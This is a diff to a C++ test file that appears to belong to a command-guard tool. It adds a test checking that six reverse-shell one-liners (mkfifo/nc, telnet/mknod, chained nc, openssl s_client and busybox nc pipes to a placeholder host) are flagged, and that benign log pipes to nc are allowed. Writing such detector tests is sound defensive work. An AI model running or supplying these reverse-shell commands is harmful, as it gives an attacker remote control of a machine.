@@ -372,6 +372,28 @@ TEST(GuardClasses, InterpreterReverseShellsAreNamed) {
   });
 }
 
+// A shell reading its program from stdin, piped from or into a raw network connection.
+TEST(GuardClasses, ShellsPipedToNetworkConnectionsAreReverseShells) {
+  const std::vector<std::string> shells = {
+      "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc h 1 > /tmp/f",
+      "rm -f /tmp/p; mknod /tmp/p p && telnet h 1 0</tmp/p | /bin/bash 1>/tmp/p",
+      "telnet h 1 | /bin/sh | telnet h 2",
+      "nc h 1 | sudo bash | nc h 2",
+      "openssl s_client -quiet -connect h:1 | /bin/bash 2>&1 | openssl s_client -quiet -connect h:2",
+      "busybox nc h 1 | busybox sh -i 2>&1 | busybox nc h 2",
+  };
+  for (const std::string& c : shells) {
+    const GuardVerdict v = JudgeCommand(c, Options());
+    bool named = false;
+    for (const GuardReason& r : v.reasons) named = named || r.rule == "reverse_shell";
+    EXPECT_TRUE(named) << c << " -> " << Describe(v);
+  }
+  RunTable({
+      {"bash build.sh | nc logs 9", kAllow},
+      {"make 2>&1 | nc logs 9", kAllow},
+  });
+}
+
 // A script written earlier in the line and then run is judged as the code it is.
 TEST(GuardClasses, ScriptsWrittenEarlierInTheLineAreJudged) {
   RunTable({
